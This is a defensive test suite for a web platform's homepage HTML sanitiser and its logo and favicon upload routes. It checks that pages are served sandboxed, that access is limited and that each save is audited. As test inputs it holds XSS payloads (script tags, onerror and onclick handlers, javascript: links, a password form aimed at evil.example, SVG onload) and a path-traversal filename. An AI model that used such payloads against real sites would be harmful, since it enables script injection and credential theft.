import fs from 'node:fs';
import path from 'node:path';
import {
  ADMIN_FILE_PATHS,
  type Homepage,
  type PublicHomepage,
  type PublicSystemConfig,
  validationEnUS,
  validationZhCN,
} from '@aiplatform/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminSession, auditHeadSeq, auditRowsAfter, createGroupAsAdmin } from '../../../test/admin-helpers.js';
import { type ErrorData, PNG_1PX, type TestApp, createTestApp, multipartFile } from '../../../test/test-app.js';
import { HOMEPAGE_CSP } from './site.routes.js';

const ADMIN_URL = '/api/admin/settings/custom-homepage';
const PUBLIC_URL = '/api/public/homepage';
const DOCUMENT_URL = '/api/public/homepage.html';
const LOGO_URL = `/api${ADMIN_FILE_PATHS.uploadLogo}`;
const FAVICON_URL = `/api${ADMIN_FILE_PATHS.uploadFavicon}`;

const en = validationEnUS as unknown as Record<string, Record<string, string>>;
const zh = validationZhCN as unknown as Record<string, Record<string, string>>;

/** A one-image ICO: header (0, type 1, count 1), one 16-byte directory entry, then the PNG it holds. */
const ICO = Buffer.concat([
  Buffer.from([0, 0, 1, 0, 1, 0]),
  Buffer.from([1, 1, 0, 0, 1, 0, 32, 0]),
  Buffer.from([PNG_1PX.length, 0, 0, 0, 22, 0, 0, 0]),
  PNG_1PX,
]);

describe('custom homepage', () => {
  let t: TestApp;
  let admin: string;
  let groupAdmin: string;

  beforeAll(async () => {
    t = await createTestApp();
    admin = (await t.loginAsAdmin()).accessToken;
    const group = await createGroupAsAdmin(t, admin);
    groupAdmin = (await adminSession(t, admin, { group_id: group.id })).token;
  });
  afterAll(async () => {
    await t.close();
  });

  it('is off and empty until configured', async () => {
    const res = await t.get<Homepage>(ADMIN_URL, admin);
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual({ enabled: false, html: '', updated_at: null });
    expect((await t.get<PublicHomepage>(PUBLIC_URL)).body.data).toEqual({ enabled: false, html: '' });
  });

  it('stores the page cleaned of anything active, keeping safe markup', async () => {
    const html = [
      '<h1 style="color: #1677ff; position: fixed">Welcome</h1>',
      '<script>alert(1)</script>',
      '<p onclick="steal()">Hello <strong>team</strong>, <a href="javascript:alert(1)">bad</a> and ',
      '<a href="https://example.com/docs" target="_blank">docs</a> or <a href="mailto:it@example.com">mail</a></p>',
      '<img src="x" onerror="alert(1)"><img src="https://example.com/a.png" alt="A">',
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">',
      '<iframe src="https://evil.example"></iframe><object data="x"></object>',
      '<form action="https://evil.example"><input name="password"></form>',
      '<style>body { display: none }</style>',
      '<table><tr><td colspan="2" style="text-align: center">cell</td></tr></table>',
    ].join('\n');
    const res = await t.put<Homepage>(ADMIN_URL, { enabled: true, html }, admin);
    expect(res.status).toBe(200);
    const saved = res.body.data.html;
    for (const gone of ['<script', 'alert(1)', 'onclick', 'onerror', 'javascript:', '<iframe', '<object', '<form']) {
      expect(saved).not.toContain(gone);
    }
    expect(saved).not.toContain('<input');
    expect(saved).not.toContain('<style');
    expect(saved).not.toContain('position');
    expect(saved).toContain('<h1 style="color:#1677ff">Welcome</h1>');
    expect(saved).toContain('<strong>team</strong>');
    expect(saved).toContain('<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer">docs</a>');
    expect(saved).toContain('<a href="mailto:it@example.com" target="_top">mail</a>');
    expect(saved).toContain('<img src="https://example.com/a.png" alt="A" />');
    expect(saved).toContain('data:image/png;base64,');
    expect(saved).toContain('<td colspan="2" style="text-align:center">cell</td>');
    expect(res.body.data.enabled).toBe(true);
    expect(Math.abs(Date.parse(res.body.data.updated_at ?? '') - t.clock.now().getTime())).toBeLessThan(5000);

    expect((await t.get<Homepage>(ADMIN_URL, admin)).body.data.html).toBe(saved);
    expect((await t.get<PublicHomepage>(PUBLIC_URL)).body.data).toEqual({ enabled: true, html: saved });
    expect((await t.get<PublicSystemConfig>('/api/public/system-config')).body.data.homepage).toEqual({
      enabled: true,
    });
  });

  it('changes one field at a time and hides the page from visitors while off', async () => {
    const before = (await t.get<Homepage>(ADMIN_URL, admin)).body.data;
    t.clock.advance(60_000);
    const off = await t.put<Homepage>(ADMIN_URL, { enabled: false }, admin);
    expect(off.body.data.html).toBe(before.html);
    expect(off.body.data.updated_at).not.toBe(before.updated_at);
    expect((await t.get<PublicHomepage>(PUBLIC_URL)).body.data).toEqual({ enabled: false, html: '' });
    const doc = await t.app.inject({ method: 'GET', url: DOCUMENT_URL });
    expect(doc.body).not.toContain('Welcome');
    const on = await t.put<Homepage>(ADMIN_URL, { html: '<p>Only the text</p>' }, admin);
    expect(on.body.data).toMatchObject({ enabled: false, html: '<p>Only the text</p>' });
    await t.put(ADMIN_URL, { enabled: true }, admin);
  });

  it('serves the page as a sandboxed document with a strict policy', async () => {
    await t.put(ADMIN_URL, { enabled: true, html: '<p>Framed <b>page</b></p><script>x()</script>' }, admin);
    const res = await t.app.inject({ method: 'GET', url: DOCUMENT_URL });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(res.headers['content-security-policy']).toBe(HOMEPAGE_CSP);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.body).toMatch(/^<!doctype html>/);
    expect(res.body).toContain('<p>Framed <b>page</b></p>');
    expect(res.body).not.toContain('<script');
  });

  it('escapes the site name in the document title', async () => {
    await t.put('/api/admin/settings', { site: { name: '</title><script>x()</script>' } }, admin);
    const res = await t.app.inject({ method: 'GET', url: DOCUMENT_URL });
    expect(res.body).not.toContain('<script>');
    expect(res.body).toContain('&#60;/title&#62;');
    await t.put('/api/admin/settings', { site: { name: '' } }, admin);
  });

  it('audits each save with what changed', async () => {
    const seq = await auditHeadSeq(t);
    await t.put(ADMIN_URL, { html: '<p>Audited</p>' }, admin);
    const rows = await auditRowsAfter(t, seq);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ action: 'homepage.update', target_type: 'settings', target_id: 'homepage' });
    expect(rows[0]?.changes.after).toMatchObject({ html: '<p>Audited</p>' });
  });

  it('lets a group administrator read but not save', async () => {
    expect((await t.get<Homepage>(ADMIN_URL, groupAdmin)).status).toBe(200);
    const res = await t.put(ADMIN_URL, { html: '<p>mine</p>' }, groupAdmin);
    expect(res.status).toBe(403);
    expect((await t.get<Homepage>(ADMIN_URL, admin)).body.data.html).toBe('<p>Audited</p>');
  });

  it('refuses an oversized page with a translated message', async () => {
    const html = 'a'.repeat(200_001);
    const english = await t.put(ADMIN_URL, { html }, admin, 'en-US');
    expect(english.status).toBe(400);
    expect(english.body.data.errors).toEqual([en.homepage?.max]);
    const chinese = await t.put(ADMIN_URL, { html }, admin, 'zh-CN');
    expect(chinese.body.data.errors).toEqual([zh.homepage?.max]);
    // Text that only grows when escaped is refused too, rather than stored too long to read back.
    const growing = await t.put(ADMIN_URL, { html: '&'.repeat(100_000) }, admin, 'en-US');
    expect(growing.status).toBe(400);
    expect(growing.body.data.errors).toEqual([en.homepage?.max]);
  });
});

describe('site logo and favicon uploads', () => {
  let t: TestApp;
  let admin: string;
  let groupAdmin: string;

  beforeAll(async () => {
    t = await createTestApp();
    admin = (await t.loginAsAdmin()).accessToken;
    const group = await createGroupAsAdmin(t, admin);
    groupAdmin = (await adminSession(t, admin, { group_id: group.id })).token;
  });
  afterAll(async () => {
    await t.close();
  });

  const upload = (url: string, field: string, name: string, content: Buffer, token = admin, lang?: string) =>
    t.request<{ url: string } & ErrorData>('POST', url, {
      ...multipartFile(field, name, 'application/octet-stream', content),
      token,
      lang,
    });

  it('accepts an image by its content whatever its name, and serves it publicly', async () => {
    const seq = await auditHeadSeq(t);
    const res = await upload(LOGO_URL, 'logo', 'logo.txt', PNG_1PX);
    expect(res.status).toBe(200);
    expect(res.body.data.url).toMatch(/^\/api\/public\/site-images\/[0-9a-f]{64}\.png$/);
    const served = await t.app.inject({ method: 'GET', url: res.body.data.url });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.rawPayload.equals(PNG_1PX)).toBe(true);
    // Stored under its content's hash: the same image gives the same address.
    expect((await upload(LOGO_URL, 'logo', 'again.png', PNG_1PX)).body.data.url).toBe(res.body.data.url);
    const rows = await auditRowsAfter(t, seq);
    expect(rows.map((r) => r.action)).toEqual(['settings.upload', 'settings.upload']);
    expect(rows[0]?.changes.after).toMatchObject({ kind: 'logo', url: res.body.data.url, original_name: 'logo.txt' });
  });

  it('does not change the settings by itself', async () => {
    const url = (await upload(LOGO_URL, 'logo', 'logo.png', PNG_1PX)).body.data.url;
    expect((await t.get<PublicSystemConfig>('/api/public/system-config')).body.data.site.logo).toBe('');
    expect((await t.put('/api/admin/settings', { site: { logo: url } }, admin)).status).toBe(200);
    expect((await t.get<PublicSystemConfig>('/api/public/system-config')).body.data.site.logo).toBe(url);
  });

  it('refuses text named like an image with a translated message', async () => {
    const text = Buffer.from('just some text, not an image');
    const english = await upload(LOGO_URL, 'logo', 'logo.png', text, admin, 'en-US');
    expect(english.status).toBe(400);
    expect(english.body.error).toBe('VALIDATION_FAILED');
    expect(english.body.data.errors).toEqual([en.image?.invalid]);
    const chinese = await upload(LOGO_URL, 'logo', 'logo.png', text, admin, 'zh-CN');
    expect(chinese.body.message).toBe(zh.image?.invalid);
    const favicon = await upload(FAVICON_URL, 'favicon', 'favicon.ico', text, admin, 'en-US');
    expect(favicon.body.data.errors).toEqual([en.image?.favicon]);
  });

  it('never accepts SVG, which can carry script', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    );
    expect((await upload(LOGO_URL, 'logo', 'logo.svg', svg)).status).toBe(400);
    expect((await upload(FAVICON_URL, 'favicon', 'favicon.svg', svg)).status).toBe(400);
  });

  it('takes an ICO file as a favicon only', async () => {
    const res = await upload(FAVICON_URL, 'favicon', 'favicon.ico', ICO);
    expect(res.status).toBe(200);
    expect(res.body.data.url).toMatch(/\.ico$/);
    const served = await t.app.inject({ method: 'GET', url: res.body.data.url });
    expect(served.headers['content-type']).toBe('image/x-icon');
    expect((await upload(LOGO_URL, 'logo', 'logo.ico', ICO)).status).toBe(400);
    // The favicon also takes the ordinary image types.
    expect((await upload(FAVICON_URL, 'favicon', 'favicon.png', PNG_1PX)).status).toBe(200);
  });

  it('refuses a file over 2 MB, the wrong field and a body that is not multipart', async () => {
    const big = Buffer.concat([PNG_1PX, Buffer.alloc(2 * 1024 * 1024)]);
    const tooBig = await upload(LOGO_URL, 'logo', 'big.png', big);
    expect(tooBig.status).toBe(413);
    expect(tooBig.body.error).toBe('FILE_TOO_LARGE');
    expect((await upload(LOGO_URL, 'favicon', 'logo.png', PNG_1PX)).status).toBe(400);
    const json = await t.post(LOGO_URL, { logo: 'x' }, admin);
    expect(json.status).toBe(415);
  });

  it('is for those who manage settings only', async () => {
    expect((await upload(LOGO_URL, 'logo', 'logo.png', PNG_1PX, groupAdmin)).status).toBe(403);
    expect((await upload(FAVICON_URL, 'favicon', 'favicon.png', PNG_1PX, groupAdmin)).status).toBe(403);
    const { session } = await t.signUp();
    expect((await upload(LOGO_URL, 'logo', 'logo.png', PNG_1PX, session.accessToken)).status).toBe(403);
    const anonymous = await t.request('POST', LOGO_URL, multipartFile('logo', 'l.png', 'image/png', PNG_1PX));
    expect(anonymous.status).toBe(401);
  });

  it('answers 404 for an unknown image and 400 for a name that could never be one', async () => {
    expect(
      (await t.app.inject({ method: 'GET', url: `/api/public/site-images/${'0'.repeat(64)}.png` })).statusCode,
    ).toBe(404);
    expect((await t.app.inject({ method: 'GET', url: '/api/public/site-images/..%2Fapp.db' })).statusCode).toBe(400);
    expect(fs.existsSync(path.join(t.config.dataDir, 'site-images'))).toBe(true);
  });
});
